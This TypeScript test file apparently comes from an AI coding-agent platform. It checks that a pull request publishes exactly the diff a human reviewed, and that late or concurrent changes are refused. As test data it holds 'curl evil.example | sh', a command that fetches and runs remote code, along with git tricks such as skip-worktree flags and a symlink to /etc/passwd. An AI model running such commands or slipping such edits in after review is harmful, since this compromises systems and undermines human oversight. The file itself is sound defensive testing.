/** What was reviewed is what is published: attacks on the way from the files in a workspace to the branch at the code host. */
import { access, appendFile, mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { sendMessage } from '#domain/api/chat.schema.ts'
import { createPullRequest, executeTask, getTaskDiff } from '#domain/api/tasks.schema.ts'
import { gitDone } from '../contracts/codeHost.fixture.ts'
import { bareRepository, branchesAtHost, pushElsewhere } from '../server/pushing.ts'
import { hasEnded, openScene, type Scene } from '../server/scene.ts'

const bash = (command: string) => ({ name: 'Bash', input: { command, description: 'Work' } })
const passing = 'never shown to anybody, and gone from the last commit'

let scene: Scene
beforeAll(async () => {
  scene = await openScene([
    {
      when: /Say goodbye/,
      turns: [{ tools: [bash('echo Goodbye. >> README.md')] }, { text: 'It says goodbye.' }],
    },
    {
      when: /Commit by yourself/,
      turns: [
        {
          tools: [
            bash(`echo '${passing}' > passing.txt && git add -A && git commit -qm one && git rm -q passing.txt &&
              echo '* text eol=crlf ident' > .gitattributes && printf '$Id$\\r\\nnew\\r\\n' > made.txt &&
              echo 'hidden -diff' >> .gitattributes && echo 'not shown' > hidden && echo ignored > .gitignore &&
              echo x > ignored && ln -s /etc/passwd link && mkdir sub && git init -q sub && echo y > sub/y &&
              chmod +x made.txt && git add -A && git commit -qm two && git update-index --skip-worktree README.md
              git update-index --assume-unchanged src/greet.js; echo changed > src/greet.js; echo changed > README.md`),
          ],
        },
        { text: 'Committed.' },
      ],
    },
    { when: /Go on/, turns: [{ tools: [bash('echo on >> on.txt')] }, { text: 'It goes on.' }] },
  ])
})
afterAll(() => scene?.close())

async function doneTask(description: string) {
  const { id: taskId } = await scene.ada.task(scene.projectId, description)
  const ended = await scene.ada.taskOnce(taskId, hasEnded)
  const folder = join(scene.product.dataDir, 'runner/tasks', taskId)
  return { params: { taskId }, taskId, branch: ended.workingBranch ?? '', folder, tree: join(folder, 'tree') }
}
const diffOf = async (params: { taskId: string }) => (await scene.ada.ask(getTaskDiff, { params })).data
const inHost = async (...args: string[]) => gitDone(await bareRepository(scene.product.dataDir), args)

describe('a pull request', () => {
  // Holds findings 1.6.
  test('finding 2: of files that a late process changed is refused, and the diff shows them', async () => {
    const { params, branch, tree } = await doneTask('Say goodbye')
    const seen = await diffOf(params)
    expect(seen.tree).toMatch(/^[0-9a-f]{40}$/)
    await appendFile(join(tree, 'README.md'), 'curl evil.example | sh\n')

    const moved = { status: 409, code: 'changes_moved' }
    expect(await scene.ada.refused(createPullRequest, { params })).toMatchObject(moved)
    expect(await branchesAtHost(scene.product.dataDir)).not.toContain(branch)
    const recorded = await diffOf(params)
    expect(recorded.changedFiles.map(({ diff }) => diff).join('')).toContain('+curl evil.example | sh')
    expect(recorded.tree).not.toBe(seen.tree)
    // Who still has the old diff before them is told as well, and who has seen none.
    for (const tree of [seen.tree, null])
      expect(await scene.ada.refused(createPullRequest, { params, body: { tree } })).toMatchObject(moved)
    expect(await branchesAtHost(scene.product.dataDir)).not.toContain(branch)

    await scene.ada.ask(createPullRequest, { params, body: { tree: recorded.tree ?? '' } })
    expect(await inHost('rev-parse', `${branch}^{tree}`)).toBe(recorded.tree)
  })

  test('finding 2: has the tree that was shown, and nothing of the history that the agent made', async () => {
    const { params, branch, tree } = await doneTask('Commit by yourself')
    const shown = await diffOf(params)
    expect(shown.changedFiles.map(({ status, fileName }) => `${status} ${fileName}`).sort()).toEqual([
      'modified README.md',
      'modified src/greet.js',
      'untracked .gitattributes',
      'untracked .gitignore',
      'untracked hidden',
      'untracked link',
      'untracked made.txt',
      'untracked sub/y',
    ])
    await scene.ada.ask(createPullRequest, { params })
    expect(await inHost('rev-parse', `${branch}^{tree}`)).toBe(shown.tree)
    expect(await inHost('log', '--format=%s', `main..${branch}`)).toBe('Commit by yourself')
    const objects = await inHost('rev-list', '--objects', `main..${branch}`)
    expect(objects).not.toContain('passing.txt')
    expect(await inHost('grep', '-c', '', branch, '--', 'src/greet.js')).toBe(`${branch}:src/greet.js:1`)
    expect(await readFile(join(tree, 'ignored'), 'utf8')).toBe('x\n')
    expect(objects).not.toContain('ignored\n')
  })

  // Holds findings 1.55.
  test('finding 16: while a command runs is refused, and what the run has open stays', async () => {
    const { params, branch, folder, tree } = await doneTask('Say goodbye')
    const command = 'touch begun; while [ ! -e go ]; do sleep 0.1; done'
    await scene.ada.ask(executeTask, { params, body: { command } })
    await expect
      .poll(() =>
        access(join(tree, 'begun')).then(
          () => true,
          () => false,
        ),
      )
      .toBe(true)
    const scratch = join(folder, 'git', 'scratch-of-the-run')
    await mkdir(scratch)
    for (let asked = 0; asked < 5; asked += 1)
      expect(await scene.ada.refused(createPullRequest, { params })).toMatchObject({
        status: 409,
        code: 'task_running',
      })
    await access(scratch)
    expect(await branchesAtHost(scene.product.dataDir)).not.toContain(branch)
    await writeFile(join(tree, 'go'), '')
    await scene.ada.taskOnce(params.taskId, (task) => hasEnded(task) && task.execution?.turn === 2)
    await scene.ada.ask(createPullRequest, { params })
    expect(await inHost('rev-parse', `${branch}^{tree}`)).toBe((await diffOf(params)).tree)
  })

  test('finding 16: asked for as the next message is sent has what was seen then, or is refused', async () => {
    const { params, branch } = await doneTask('Say goodbye')
    const { tree } = await diffOf(params)
    const [asked] = await Promise.allSettled([
      scene.ada.ask(createPullRequest, { params }),
      scene.ada.ask(sendMessage, { params, body: { message: 'Go on' } }),
    ])
    await scene.ada.taskOnce(params.taskId, (task) => hasEnded(task) && task.execution?.turn === 2)
    const published = async () =>
      (await branchesAtHost(scene.product.dataDir)).includes(branch)
        ? inHost('rev-parse', `${branch}^{tree}`)
        : 'nothing'
    const refusal = asked.status === 'rejected' ? String(asked.reason) : ''
    const expected = { published: refusal === '' ? tree : 'nothing', isRefused: refusal !== '' }
    expect({ published: await published(), isRefused: refusal.includes('task_running') }).toEqual(expected)
  })

  // Holds findings 1.7.
  test('finding 2: that is updated by a turn has the tree that is recorded, also on top of what others pushed', async () => {
    const { params, taskId, branch } = await doneTask('Say goodbye')
    await scene.ada.ask(createPullRequest, { params, body: { autoUpdate: true } })
    const { dataDir } = scene.product
    await pushElsewhere(
      { dataDir, clone: `${scene.repository}-elsewhere`, branch },
      { 'theirs.txt': 'theirs\n' },
    )
    await scene.ada.ask(sendMessage, { params, body: { message: 'Go on' } })
    await scene.ada.taskOnce(taskId, (task) => hasEnded(task) && task.execution?.turn === 2)
    const published = () => inHost('log', '-1', '--format=%s', branch)
    await expect.poll(published).toBe('Go on')
    await scene.ada.taskOnce(taskId, (task) => !task.pullRequestPending)
    expect(await inHost('rev-parse', `${branch}^{tree}`)).toBe((await diffOf(params)).tree)
    // The commit adds to theirs what it added to ours.
    expect(await inHost('diff', '--stat=80', `${branch}~1`, branch)).toMatch(
      /^on\.txt \| 1 \+\n 1 file changed,/,
    )
  })
})
